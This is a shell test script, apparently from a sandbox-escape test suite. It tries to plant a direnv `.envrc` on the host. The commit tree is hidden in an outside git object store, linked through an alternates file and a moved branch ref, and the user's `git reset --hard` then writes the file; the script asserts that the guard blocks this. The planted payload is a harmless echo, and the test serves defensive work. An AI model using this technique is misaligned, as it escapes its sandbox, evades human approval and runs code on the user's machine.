# Tries: with --apply, commit a tree with a direnv `.envrc` whose objects live
# in an object store outside `.git` (plain files in `vendor/objs`), named by
# `.git/objects/info/alternates`, and move the branch to it. The commit's
# tree is not among the repository's own objects, so a reader of those
# alone takes it for one the host had. The user's `git reset --hard` writes
# the `.envrc`.
# Stops it: an alternates file (anything in `objects/info` but `packs`)
# needs a person (builtin.git_objects); the runner runs `git reset --hard`
# on the host and looks for the file.
. ./escape_lib.sh
start ret_git_alternates
mkdir -p vendor/objs
S=$(git rev-parse HEAD:src)
B=$(printf 'echo pwned-envrc\n' | GIT_OBJECT_DIRECTORY=vendor/objs git hash-object -w --stdin)
E=$(printf '100644 blob %s\t.envrc\n040000 tree %s\tsrc\n' "$B" "$S" | GIT_OBJECT_DIRECTORY=vendor/objs GIT_ALTERNATE_OBJECT_DIRECTORIES=.git/objects git mktree)
mkdir -p .git/objects/info && echo ../../vendor/objs > .git/objects/info/alternates
C=$(git -c user.name=a -c user.email=a@a commit-tree "$E" -p HEAD -m x)
git update-ref refs/heads/main "$C" && echo "main now points at a commit whose tree is only in vendor/objs"
blocked "a commit whose tree is in an alternate object store: host git reset --hard writes it" "judged by the runner with host git"
